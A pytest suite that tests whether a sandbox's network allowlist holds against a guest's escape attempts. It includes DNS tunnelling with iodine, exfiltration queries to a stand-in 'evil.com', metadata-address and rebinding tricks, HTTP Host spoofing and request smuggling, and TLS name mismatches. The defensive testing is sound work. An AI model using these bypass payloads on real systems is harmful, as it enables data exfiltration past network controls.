"""Guests that try to get past the allowlist (attacks, section A5): every refused road beside an allowed one."""

import os
import shutil
import subprocess
import sys

import pytest

from cordon_run import GUESTS, cordon, guest_path

OK = ["--allow-network", "ok.test"]
PATIENCE = 1 if os.environ.get("CORDON_TEST_QUIET") == "1" else 4
CURL = "/usr/bin/curl"


@pytest.fixture(autouse=True)
def fresh(net):
    net.forget()


def curl(net, url, *words, opts=OK, **kw):
    return net.run(*opts, "--file", f"ca.pem={net.ca}", "--", CURL, "-sS", "-m", "10", "--cacert", "ca.pem", *words, url, **kw)


def client(net, *args, opts=OK, **kw):
    return net.run(*opts, "--allow-read", GUESTS, "--", guest_path("netclient"), *args, **kw)


def nothing_arrived(net):
    return not net.hits("inside") and not net.hits("http", place="evil") and not net.hits("udp")


# ---- N1, N11-N13: addresses and sockets of every kind --------------------------------------------------------

@pytest.mark.parametrize("host4, host6", [("203.0.113.20", "2001:db8::20"), ("10.0.0.5", "fd00:ec2::254"),
                                          ("169.254.169.254", "::1"), ("203.0.113.53", "fe80::1")])
def test_no_road_to_an_address(net, host4, host6):
    """N1, N12: connect, UDP, fast open, raw and multicast, while a name is allowed."""
    r = net.run(*OK, "--allow-read", GUESTS, "--", guest_path("net"), "reach", host4, host6, "80")
    assert r.verdict == "ok", str(r)
    for road in ("connect4", "connect6", "fastopen_connect"):
        assert "OK" not in r.all(road), str(r)
    assert nothing_arrived(net) and not net.hits("dns"), net.hits()


BIG = """import socket, struct, sys
host, size, options = sys.argv[1], int(sys.argv[2]), sys.argv[3]
family = socket.AF_INET6 if ":" in host else socket.AF_INET
s = socket.socket(family, socket.SOCK_DGRAM)
if options:  # a routing header, the one extension an ordinary user may add: segment routing, one segment
    s.setsockopt(socket.IPPROTO_IPV6, 57, bytes([0, 2, 4, 0, 0, 0, 0, 0]) + socket.inet_pton(family, host))
for _ in range(3):
    try: s.sendto(b"x" * size, (host, 7010))
    except OSError as e: print(e)
"""


@pytest.mark.parametrize("host, size, options", [("203.0.113.20", 10, ""), ("203.0.113.20", 9000, ""), ("2001:db8::20", 10, ""),
                                                 ("2001:db8::20", 9000, ""), ("2001:db8::20", 10, "routed")])
def test_refused_datagrams_are_seen(net, host, size, options):
    """N11: of any size and shape, also those that travel in pieces."""
    r = net.python(BIG, *OK, args=[host, size, options])
    if options and r.verdict != "ok":
        pytest.skip("the kernel takes no routing header (CONFIG_IPV6_SEG6): " + r.err[-200:])
    assert not net.hits("udp"), str(r)
    if not r.result["network"]["all_observed"]:
        pytest.skip("the kernel has no nftables: refused packets have no route and are not seen")
    seen = [a for a in r.result["network"]["attempts"] if (a["address"], a["port"], a["protocol"], a["verdict"]) == (host, 7010, "udp", "refused")]
    assert len(seen) == 1, str(r)


def test_fast_open(net):
    """N12: data in the first packet, to a refused and to an allowed address."""
    r = client(net, "fastopen", "203.0.113.20", "80")
    assert "REACHED" not in r.out and nothing_arrived(net), str(r)
    r = client(net, "fastopen", "203.0.113.10", "7000", opts=["--allow-network", "203.0.113.10:7000"])
    assert "REACHED" in r.out, "the allow twin"


def test_socket_families(net):
    """K13, N13: the allowlist opens no other family; vsock, raw, packet and netlink stay shut."""
    r = net.run(*OK, "--allow-read", GUESTS, "--", guest_path("net"), "families")
    assert r.get("inet_stream") == "OK", str(r)
    for kind in ("vsock", "vsock_dgram", "packet", "inet_raw", "inet6_raw", "inet_mptcp", "netlink_netfilter", "alg", "xdp", "inet_sctp"):
        assert r.get(kind) != "OK", (kind, str(r))


def test_unix_sockets_of_the_host(net, shared):
    """N15, N16: abstract names and paths of the namespace the command was started from."""
    server = subprocess.Popen([*net.prefix, sys.executable, "-B", "-c", """import socket, sys
a = socket.socket(socket.AF_UNIX); a.bind("\\0cordon-e2e-abstract"); a.listen()
p = socket.socket(socket.AF_UNIX); p.bind(sys.argv[1]); p.listen()
print("up", flush=True); sys.stdin.read()""", str(shared / "sock")], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        assert server.stdout.readline() == "up\n"
        os.chmod(shared / "sock", 0o777)
        code = """import socket, sys
for name in ("\\0cordon-e2e-abstract", sys.argv[1]):
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(name); print("REACHED")
    except OSError as e:
        print("refused:", e)
"""
        r = net.python(code, *OK, args=[shared / "sock"])
        assert r.out.count("refused:") == 2, str(r)
    finally:
        server.communicate()


# ---- N3, N4: names -------------------------------------------------------------------------------------------

ODD_NAMES = [
    r"evil.com\x00.ok.test", r"ok.test\x00.evil.com", r"ok.test\x2eevil.com", r"ok\x2etest", r"ok.test\x0d\x0a", r"ok.test ", "ok.test@evil.com",
    "evilok.test", "ok.test.evil.com", "www.ok.test", r"\xef\xbd\x8f\xef\xbd\x8b.test", "xn--.test", "_x.ok.test", "-.ok.test",
    "0x7f000001", "2130706433", "127.1", "0177.0.0.1", "0", "10.0.0.5", "169.254.169.254", "a" * 63 + "." + "b" * 63 + ".ok.test",
    "host.cordon", "ok.test.local", "arpa", "1.0.0.127.in-addr.arpa", "",
]


def ask(net, questions, opts=OK):
    """Answers to (name, type) in order, all asked by one guest."""
    code = "import subprocess, sys\nfor i in range(2, len(sys.argv), 2): subprocess.run([sys.argv[1], 'ask', *sys.argv[i:i + 2]])\n"
    r = net.python(code, *opts, "--allow-read", GUESTS, args=[guest_path("netclient"), *(w for q in questions for w in q)])
    assert r.verdict == "ok" and len(r.all("answer")) == len(questions), str(r)
    return r


def test_odd_names_are_refused(net):
    r = ask(net, [(name, 1) for name in ODD_NAMES])
    assert dict(zip(ODD_NAMES, r.all("answer"))) == {name: "code 3, 0 records" for name in ODD_NAMES}, str(r)
    assert not net.hits("dns"), "it was asked outside"
    r = ask(net, [("ok.test.", 1), ("ok.test", 28)])
    assert r.all("answer") == ["code 0, 1 records"] * 2, "the allow twins"


LOOKALIKES = [
    r"b\xc3\xbccher.test", r"B\xc3\x9cCHER.test", r"bu\xcc\x88cher.test", "xn--bucher-kva.test", "xn--bcher-kva-.test", "xn--bcher-kvb.test", "xn--bucher-mkf.test",
    "xn--BUCHER.test", "bcher-kva.test", r"xn--bcher-kva\x2etest", r"xn--bcher\xad-kva.test", "xn--xn--bcher-kva-.test", "xn--ok-.test", "xn--ok.test",
    r"\xd0\xbek.test", "xn--k-jtb.test", r"\xef\xbd\x8fk.test", "xn--k-o533k.test", r"ok\xe3\x80\x82test", "xn--oktest-ov3g",
]


def test_lookalikes_are_other_names(net):
    """N4: a guest that spells a name otherwise than its one form asks for another name, or for none."""
    rules = ["--allow-network", "b\u00fccher.test", "--allow-network", "ok.test"]
    r = ask(net, [(name, 1) for name in LOOKALIKES], opts=rules)
    assert dict(zip(LOOKALIKES, r.all("answer"))) == {name: "code 3, 0 records" for name in LOOKALIKES}, str(r)
    r = ask(net, [("xn--bcher-kva.test", 1), ("XN--BCHER-KVA.TEST.", 1), ("Xn--BcHeR-kVa.test", 28)], opts=rules)
    assert r.all("answer") == ["code 0, 1 records"] * 3, "the allow twins"
    assert not net.hits("dns"), "it was asked outside"


@pytest.mark.parametrize("name, good", [("xn--bcher-kva.test", True), ("XN--BCHER-KVA.test", True), ("b\u00fccher.test", False), ("xn--bcher-kva-.test", False), ("ok.test", False)])
def test_names_inside_the_connection(net, name, good):
    """N9: HTTP's Host is compared in the one form too; bytes beyond ASCII are no name there."""
    code = """import socket, sys
s = socket.create_connection(("xn--bcher-kva.test", 80), 5); s.settimeout(5)
s.sendall(b"GET / HTTP/1.1\\r\\nHost: " + sys.argv[1].encode() + b"\\r\\nConnection: close\\r\\n\\r\\n")
print(s.recv(1000))
"""
    r = net.python(code, "--allow-network", "b\u00fccher.test", args=[name])
    assert ("200 OK" in r.out) == good and bool(net.hits("http")) == good, str(r)
    assert good or mismatch(r), str(r)


@pytest.mark.parametrize("name", ["ok.test", "OK.TEST", "ok.test.", "oK.tEsT"])
def test_spellings_of_an_allowed_name(net, name):
    r = client(net, "ask", name, "1")
    assert r.get("answer") == "code 0, 1 records" and r.get("address").startswith("198.1"), str(r)
    first = r.get("address")
    r = client(net, "ask", name, "1", "tcp")
    assert r.get("address") == first, "DNS over TCP says the same"


def test_one_address_per_name(net):
    code = """import socket
print(len({socket.getaddrinfo(n, 80, socket.AF_INET)[0][4] for n in ("ok.test", "ok.test", "OK.test", "other.test")}))
"""
    r = net.python(code, *OK, "--allow-network", "other.test")
    assert r.out == "2\n", str(r)


@pytest.mark.parametrize("rule", ["0x7f.1", "2130706433", "127.1", "0177.1", "a..b", "ok_test", "ok.test/x", "[::1%lo]", "ok.test:0", "＊.test", "ok.test：80",
                                  "ok.test／", "a　b.test", "xn--\u00fc.test", "xn--a.test", "\u0308a.test", "\u00ad", "a\u200db.test", "\u05d0a.test"])
def test_odd_rules_are_errors(net, rule):
    r = net.run("--allow-network", rule, "--", "/bin/true", as_json=False)
    assert r.code in (64, 78), str(r)


# ---- N5-N7: addresses that names lead to ------------------------------------------------------------------------

INTERNAL = ["internal.test", "loop.test", "loop6.test", "meta.test", "meta6.test", "cgnat.test", "mapped.test", "compat.test", "nat64.test",
            "sixtofour.test", "any.test", "inalias.test"]


@pytest.mark.parametrize("name", INTERNAL)
def test_names_that_lead_inside(net, name):
    """N6: refused on the address that would be dialled."""
    r = curl(net, f"http://{name}/", opts=["--allow-network", name])
    assert r.verdict == "nonzero_exit" and not net.hits("inside"), str(r)
    assert any("block_internal" in d["rule"] for d in r.denied(name)), str(r)
    assert r.seconds < 4 * PATIENCE, "it did not fail fast"


def test_names_that_may_lead_inside(net):
    """The allow twins: a literal, a range, *.local, block_internal=false."""
    for name, opts in [("internal.test", ["--block-internal=false"]), ("internal.test", ["--allow-network", "10.0.0.0/8"]),
                       ("internal.test", ["--allow-network", "10.0.0.5"]), ("internal.test", ["--allow-network", "10.*"]),
                       ("printer.local", ["--allow-network", "*.local"]), ("meta.test", ["--allow-network", "169.254.169.254"])]:
        r = curl(net, f"http://{name}/", opts=["--allow-network", name, *opts])
        assert r.out == "inside", f"{opts} {r}"
    net.forget()
    r = curl(net, "http://printer.local/", opts=["--allow-network", "printer.local"])
    assert r.verdict == "nonzero_exit" and not net.hits("inside"), "an exact name is no *.local pattern"


def test_mixed_answers_use_the_good_one(net):
    r = curl(net, "http://mixed.test/", opts=["--allow-network", "mixed.test"])
    assert not net.hits("inside"), str(r)
    assert "hello from web" in r.out, str(r)


def test_rebinding(net):
    """N7: TTL 0 and another answer each time; the guest sees one address of ours, every dial is judged by itself."""
    code = """import socket, time
seen = set()
for i in range(3):
    a = socket.getaddrinfo("rebind.test", 80, socket.AF_INET)[0][4]; seen.add(a[0])
    try:
        s = socket.create_connection(a, timeout=5)
        s.sendall(b"GET / HTTP/1.1\\r\\nHost: rebind.test\\r\\nConnection: close\\r\\n\\r\\n")
        print(i, b"".join(iter(lambda: s.recv(4096), b""))[-60:])
    except OSError as e:
        print(i, "refused", e)
    time.sleep(1.1)
print("addresses", len(seen))
"""
    r = net.python(code, "--allow-network", "rebind.test")
    assert not net.hits("inside"), str(r)
    assert "hello from web" in r.out and "addresses 1" in r.out, str(r)


def test_internal_literals(net):
    """N5: every spelling, also those of Cordon's own side."""
    hosts = ["127.0.0.1", "10.0.0.5", "169.254.169.254", "2130706433", "0x7f000001", "0177.0.0.1", "127.1", "[::1]", "[::ffff:10.0.0.5]",
             "[::ffff:a00:5]", "[64:ff9b::a00:5]", "[fd00:ec2::254]", "[::]", "0.0.0.0", "198.18.0.1", "198.18.255.254", "192.0.0.1", "192.0.0.2"]
    script = 'for h; do curl -sS -g -m 4 "http://$h/" && echo "REACHED $h"; done; curl -sS http://ok.test/'
    r = net.run(*OK, "--time-limit", "60s", "--", "/bin/sh", "-c", script, "sh", *hosts)
    assert "REACHED" not in r.out and not net.hits("inside") and "hello from web" in r.out, str(r)


def test_explain_reads_spellings(net):
    for host in ("0x7f.1:80", "2130706433:80", "0177.0.0.1:80", "[::ffff:127.0.0.1]:80"):
        assert cordon("explain", "--network", "bridge", "--host", host).stdout.startswith("refused by block_internal"), host


# ---- N8, N21: DNS as a channel ----------------------------------------------------------------------------------

def test_other_types_are_empty(net):
    """TXT, MX, SRV, NULL, HTTPS, AXFR, ANY and the rest: an allowed name has addresses and nothing else."""
    types = [2, 5, 6, 10, 12, 15, 16, 33, 35, 64, 65, 99, 251, 252, 255]
    r = ask(net, [("ok.test", t) for t in types])
    assert r.all("answer") == ["code 0, 0 records"] * len(types), str(r)
    assert not net.hits("dns")


def test_other_servers_are_out_of_reach(net):
    code = """import socket
for host in ("203.0.113.53", "203.0.113.20", "8.8.8.8"):
    s = socket.socket(type=socket.SOCK_DGRAM); s.settimeout(0.4)
    try:
        s.sendto(b"\\x124\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06secret\\x04evil\\x03com\\x00\\x00\\x01\\x00\\x01", (host, 53)); print(s.recv(512))
    except OSError as e:
        print("refused:", e)
"""
    r = net.python(code, *OK)
    assert r.out.count("refused") == 3 and not net.hits("dns") and nothing_arrived(net), str(r)


def test_iodine_carries_nothing(net, program):
    """N8: a real DNS tunnel. The server stands ready outside; no question of the client's ever reaches it."""
    iodine = shutil.which("iodine", path="/usr/sbin:/usr/bin") or program("iodine", "iodine")
    r = net.run("--log-network", *OK, "--time-limit", "8s", "--", iodine, "-f", "-P", "secret", "-r", "198.18.0.1", "tunnel.evil.com")
    assert r.verdict in ("nonzero_exit", "time_limit"), str(r)
    assert not net.hits("dns") and "Connection setup complete" not in r.err, str(r)


def test_dns_storm_is_bounded(net):
    """A million questions cost nobody else: refused names leave no mark outside and few in the result."""
    code = """import socket, time
s = socket.socket(type=socket.SOCK_DGRAM)
ns = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
end, n = time.time() + 1.5, 0
while time.time() < end:
    name = b"x%dq" % n
    try:
        s.sendto(b"\\x124\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00" + bytes([len(name)]) + name + b"\\x04evil\\x03com\\x00\\x00\\x01\\x00\\x01", (ns, 53)); n += 1
    except OSError:
        pass
import urllib.request
print(n > 1000, urllib.request.urlopen("http://ok.test/", timeout=15).read())
"""
    r = net.python(code, *OK)
    assert "True b'hello" in r.out, str(r)
    assert len(r.raw) < 4 << 20 and not net.hits("dns", name="x1q.evil.com"), len(r.raw)


# ---- N9: names that do not agree ----------------------------------------------------------------------------------

def mismatch(r):
    return any("mismatch" in d["rule"] for d in r.result["denials"])


def test_tls_name(net):
    """N9: the server name must be the dialled one."""
    r = curl(net, "https://other.test/", "--connect-to", "other.test:443:ok.test:443")
    assert r.verdict == "nonzero_exit" and not net.hits("tls"), str(r)
    assert mismatch(r), str(r)
    r = curl(net, "https://ok.test/", "--connect-to", "other.test:443:ok.test:443")
    assert r.verdict == "ok", "the allow twin"


def test_tls_without_a_name(net):
    code = """import socket, ssl
c = ssl._create_unverified_context(); c.check_hostname = False
s = c.wrap_socket(socket.create_connection(("ok.test", 443), 5)); print(s.version())
"""
    r = net.python(code, *OK)
    assert r.verdict == "nonzero_exit" and mismatch(r) and not net.hits("tls"), str(r)
    r = net.python(code.replace("5))", "5), server_hostname='ok.test')"), *OK)
    assert r.verdict == "ok" and "TLSv1" in r.out, str(r)


def test_tls_hello_in_pieces(net):
    """Byte by byte, the same answer."""
    code = """import socket, ssl, sys, time
c = ssl._create_unverified_context()
i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
t = c.wrap_bio(i, o, server_hostname=sys.argv[1])
try: t.do_handshake()
except ssl.SSLWantReadError: pass
s = socket.create_connection(("ok.test", 443), 5); s.setsockopt(6, 1, 1); s.settimeout(10)
for b in o.read():
    s.send(bytes([b]))
print(s.recv(3).hex())
"""
    r = net.python(code, *OK, args=["ok.test"])
    assert r.out.strip() == "160303", str(r)
    r = net.python(code, *OK, args=["evil.com"])
    assert r.verdict == "nonzero_exit" and mismatch(r), str(r)


@pytest.mark.parametrize("first", ["150301000201 5a", "140301000101", "1602000002", "160f030002", "8230010303", ""])
def test_tls_hello_behind_something(net, first):
    """Servers pass over a warning alert before the hello, and take records of versions that do not exist and hellos of
    SSL 2; they are not passed over here."""
    code = """import socket, ssl, sys
c = ssl._create_unverified_context()
i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
t = c.wrap_bio(i, o, server_hostname="evil.com" if sys.argv[1] else "ok.test")
try: t.do_handshake()
except ssl.SSLWantReadError: pass
s = socket.create_connection(("ok.test", 443), 5); s.settimeout(10)
s.sendall(bytes.fromhex(sys.argv[1]) + o.read())
print(s.recv(3).hex())
"""
    r = net.python(code, *OK, args=[first])
    if first:
        assert r.verdict == "nonzero_exit" and mismatch(r) and not net.hits("tls"), str(r)
    else:
        assert r.out == "160303\n", "the allow twin"


@pytest.mark.parametrize("head", [
    "GET / HTTP/1.1\\r\\nHost: evil.com\\r\\n\\r\\n", "GET http://evil.com/ HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\n",
    "GET / HTTP/1.1\\r\\nHost: ok.test\\r\\nHost: evil.com\\r\\n\\r\\n", "GET / HTTP/1.1\\r\\n\\r\\n", "GET / HTTP/1.1\\r\\nX: y\\r\\n Host: evil.com\\r\\n\\r\\n",
    "GET / HTTP/1.1\\r\\nHost : evil.com\\r\\nHost: ok.test\\r\\n\\r\\n", "\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: evil.com\\r\\n\\r\\n",
    "CONNECT evil.com:80 HTTP/1.1\\r\\nHost: evil.com:80\\r\\n\\r\\n", "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n", "BREW / HTTP/1.1\\r\\nHost: evil.com\\r\\n\\r\\n",
    "GET\\t/\\tHTTP/1.1\\r\\nHost: evil.com\\r\\n\\r\\n", "GET\\x0b/ HTTP/1.1\\r\\nHost: evil.com\\r\\n\\r\\n", " GET / HTTP/1.1\\r\\nHost: evil.com\\r\\n\\r\\n",
    "GET /\\r\\n", "GET /" + "x" * 20000 + " HTTP/1.1\\r\\nHost: evil.com\\r\\n\\r\\n",
    "POST / HTTP/1.1\\r\\nHost: ok.test\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n",
])
def test_http_host(net, head):
    """N9, N18, N20: another Host, two of them, none, hidden ones; and smuggling."""
    code = f"""import socket
s = socket.create_connection(("ok.test", 80), 5); s.settimeout(5)
s.sendall("{head}".encode())
print(s.recv(1000))
"""
    r = net.python(code, *OK)
    assert not net.hits("http"), str(r)
    assert "200" not in r.out and r.denied("ok.test"), str(r)


LOOSE = ["--allow-network", "ok.test:7007"]
LOOSE_CODE = """import socket, sys, time
s = socket.create_connection(("ok.test", 7007), 5); s.settimeout(5)
first, rest = (a.encode().decode("unicode_escape").encode("latin-1") for a in sys.argv[1:3])
try:
    for i in range(0, len(first), 15000):
        s.sendall(first[i:i + 15000])
        time.sleep(0.05)
    s.sendall(rest)
    if not rest: s.shutdown(socket.SHUT_WR)
    print(s.recv(1000))
except OSError as e: print("refused", e)
"""


@pytest.mark.parametrize("first", [
    "A" * 40 + " / HTTP/1.1", "A" * 40000 + " / HTTP/1.1", "OPTIONS / RTSP/1.1", "POST / RTSP/1.1", "SOURCE / ICE/1.1", "POST / X", "POST /", "PROXY TCP4 1.1.1.1 2.2.2.2 1 2",
    "G@T / HTTP/1.1", "\\x01 / HTTP/1.1", "PO\\nST / HTTP/1.1", "GET http://evil.com/x HTTP/1.1", "GET x HTTP/1.1"])
def test_http_of_lenient_servers(net, first):
    """N9: what some server takes for a request is read as one: long and odd methods (Go, the JDK), other versions
    (Node), a line that only the end of the stream ends (Python). Nothing of it arrives, nor a request behind it."""
    r = net.python(LOOSE_CODE, *LOOSE, args=[first, "\\r\\nHost: ok.test\\r\\n\\r\\nGET /secret HTTP/1.1\\r\\nHost: evil.com\\r\\n\\r\\n"])
    assert "refused" in r.out and mismatch(r) and not net.hits("loose"), str(r)
    if len(first) < 100:
        r = net.python(LOOSE_CODE, *LOOSE, args=[first, ""])
        assert "refused" in r.out and mismatch(r) and not net.hits("loose"), str(r)
    r = net.python(LOOSE_CODE, *LOOSE, args=["G" * 40 + " / HTTP/1.1", "\\r\\nHost: ok.test\\r\\n\\r\\n"])
    assert "loose" in r.out and not r.result["denials"], "the allow twin"


@pytest.mark.parametrize("text", ["hello\\r\\n\\r\\n", "tls\\r\\n\\r\\n", "\\x00\\x01\\r\\n\\r\\n"])
def test_answer_to_something_else(net, text):
    """A server that answers in HTTP or TLS has read a request where none was seen here: the answer stays outside."""
    r = net.python(LOOSE_CODE, *LOOSE, args=[text, "x"])
    assert "refused" in r.out and "loose" not in r.out and mismatch(r), str(r)
    r = net.python(LOOSE_CODE.replace("7007", "7000"), "--allow-network", "ok.test:7000", args=[text, "x"])
    assert "refused" not in r.out and not r.result["denials"], "the allow twin"


@pytest.mark.parametrize("method", ["GET", "POST", "DELETE"])
def test_http_request_in_a_body(net, method):
    """N18: there are servers that answer without reading a body and take it for the next request; Python's is one."""
    code = """import socket, sys
s = socket.create_connection(("ok.test", 80), 5); s.settimeout(5)
body = sys.argv[2].encode()
s.sendall(f"{sys.argv[1]} / HTTP/1.1\\r\\nHost: ok.test\\r\\nConnection: keep-alive\\r\\nContent-Length: {len(body)}\\r\\n\\r\\n".encode() + body)
try: print(s.recv(1000)[:15])
except OSError as e: print("refused", e)
"""
    for body in ("GET /hidden HTTP/1.1\r\nHost: evil.com\r\n\r\n", "\r\n GET\t/hidden HTTP/1.1\r\nHost: evil.com\r\n\r\n"):
        r = net.python(code, *OK, args=[method, body])
        assert "refused" in r.out and mismatch(r) and not net.hits("http", host="evil.com"), str(r)
    r = net.python(code, *OK, args=[method, '{"query": "GET / HTTP/1.1"}'])
    assert "HTTP/1.1 " in r.out and not r.result["denials"], "the allow twin"


def test_http_second_request(net):
    """A kept connection is followed: the next request must name the host as well."""
    code = """import socket, sys
s = socket.create_connection(("ok.test", 80), 5); s.settimeout(5)
answers = s.makefile("rb")
def status():
    line, length = answers.readline(), 0
    while (field := answers.readline().strip()):
        length = int(field[15:]) if field.lower().startswith(b"content-length:") else length
    answers.read(length)
    return line[9:12]
for host in sys.argv[1:]:
    s.sendall(b"POST / HTTP/1.1\\r\\nHost: " + host.encode() + b"\\r\\nContent-Length: 5\\r\\n\\r\\nhello")
    try:
        print(status())
    except OSError as e:
        print("refused", e)
"""
    r = net.python(code, *OK, args=["ok.test", "ok.test"])
    assert r.out.count("b'200'") == 2, str(r)
    net.forget()
    r = net.python(code, *OK, args=["ok.test", "evil.com"])
    assert r.out.count("b'200'") == 1 and mismatch(r), str(r)
    assert not net.hits("http", host="evil.com")


def test_redirects(net):
    """N10: the next connection is judged again."""
    for target, good in (("https://ok.test/x", True), ("http://evil.com/", False), ("http://169.254.169.254/", False),
                         ("http://internal.test/", False), ("http://127.0.0.1:80/", False)):
        r = curl(net, f"http://ok.test/redirect?to={target}", "-L", opts=[*OK, "--allow-network", "internal.test"])
        assert (r.verdict == "ok") == good, f"{target} {r}"
    assert nothing_arrived(net), net.hits()


# ---- Cordon's own side ---------------------------------------------------------------------------------------------

def test_brokers_side_has_no_other_ports(net):
    """Nothing of ours answers anywhere but name questions and allowed ports."""
    code = """import socket
ns = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
addr = socket.getaddrinfo("ok.test", 80, socket.AF_INET)[0][4][0]
for host in (ns, addr, "192.0.0.1", "192.0.0.2", "192.0.0.3"):
    for port in (1, 22, 53, 80, 443, 3128, 60000):
        s = socket.socket(); s.settimeout(0.3)
        if s.connect_ex((host, port)) == 0:
            try:
                s.sendall(b"hello\\n"); s.recv(10) and print("ANSWERED", host, port)
            except OSError:
                pass
            print("open", host, port)
"""
    r = net.python(code, *OK)
    opened = {tuple(line.split()[1:]) for line in r.out.splitlines() if line.startswith("open")}
    assert {port for host, port in opened} <= {"53", "80", "443"}, str(r)
    assert nothing_arrived(net)


def test_unknown_synthetic_address(net):
    """An address of ours that no name was given: refused, and nothing outside."""
    r = curl(net, "http://198.18.77.77/", "-m", "4")
    assert r.verdict == "nonzero_exit" and not net.hits(), str(r)
    r = curl(net, "http://ok.test/", "--resolve", "ok.test:80:198.18.0.200", "-m", "4")
    assert r.verdict == "nonzero_exit" and not net.hits(), str(r)


def test_two_guests_do_not_meet(net):
    """N17: the same port in two guests, and neither sees the other's."""
    code = """import socket, time
s = socket.create_server(("0.0.0.0", 7777)); print("up", flush=True); s.settimeout(2)
try: s.accept(); print("MET")
except OSError: print("alone")
"""
    a = net.start(*OK, "--", "/usr/bin/python3", "-I", "-S", "-c", code)
    try:
        assert a.stdout.readline() == b"up\n"
        r = net.python("""import socket
own = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
for h in ("127.0.0.1", own, "192.0.0.1", "192.0.0.2", "198.18.0.2"):
    s = socket.socket(); s.settimeout(0.2); print(h, s.connect_ex((h, 7777)))
""", *OK)
        assert not [line for line in r.out.splitlines() if line.endswith(" 0")], str(r)
    finally:
        assert b"alone" in a.communicate(timeout=20)[0]


def test_guest_cannot_change_its_network(net):
    for command in ("ip link set lo down", "ip addr add 10.0.0.5/32 dev lo", "ip route add default dev lo", "ip route flush table main",
                    "sysctl -w net.ipv4.ip_forward=1", "iptables -L", "tc qdisc add dev lo root netem"):
        r = net.run(*OK, "--", "/bin/sh", "-c", f"PATH=$PATH:/usr/sbin:/sbin; {command}")
        assert r.verdict == "nonzero_exit", f"{command} {r}"


def test_names_cap(net):
    """A guest that asks for ever new subdomains of a wildcard stays bounded, and the broker alive."""
    code = """import socket
bad = 0
for i in range(1000):
    try: socket.getaddrinfo("n%d.wild.test" % i, 80, socket.AF_INET)
    except OSError: bad += 1
import urllib.request
print(urllib.request.urlopen("http://ok.test/", timeout=10).read())
"""
    r = net.python(code, *OK, "--allow-network", "*.wild.test", timeout=120)
    assert r.verdict in ("ok", "nonzero_exit") and len(r.raw) < 4 << 20, str(r)[:2000]
